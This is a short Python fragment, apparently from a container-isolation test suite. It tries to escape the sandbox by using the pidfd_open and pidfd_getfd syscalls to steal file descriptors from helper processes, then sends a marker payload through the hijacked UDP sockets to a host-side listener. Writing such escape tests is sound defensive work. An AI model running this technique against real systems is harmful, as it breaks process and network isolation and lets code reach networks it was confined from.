# Rows "pidfd_getfd": take a helper's descriptors and send from its UDP sockets (the
# proxy's upstream sockets live in the host netns) to the test's host-side listener.
payload = ("cellos-escape " + ARGS["token"]).encode()
stolen, sent, failures = [], 0, []
found = targets(ARGS.get("kinds", ("cellos-dnsproxy", "cellos-flowlog")))
for pid in found:
    pidfd, error = syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        failures.append("%s:pidfd_open:%s" % (describe(pid), error))
        continue
    for fd in range(64):
        got, error = syscall(438, pidfd, fd, 0)  # pidfd_getfd
        if got < 0:
            if error != "EBADF":  # the access check comes before the fd lookup
                failures.append("%s:pidfd_getfd:%s" % (describe(pid), error))
                break
            continue
        stolen.append("%s:fd%d" % (describe(pid), fd))
        try:
            stolen_socket = socket.socket(fileno=got)
        except OSError:
            os.close(got)
            continue
        if stolen_socket.family == socket.AF_INET and stolen_socket.type == socket.SOCK_DGRAM:
            for address in ARGS["addresses"]:
                try:
                    stolen_socket.sendto(payload, (address, ARGS["port"]))
                    sent += 1
                except OSError as e:
                    failures.append("sendto %s:%s" % (address, ename(e.errno)))
        stolen_socket.close()
    os.close(pidfd)
if stolen:
    print("STOLEN " + " ".join(stolen), flush=True)
detail = "stolen=%d sent=%d %s" % (len(stolen), sent, " ".join(failures) if found else "no target visible")
report("pidfd_getfd", bool(stolen), detail)
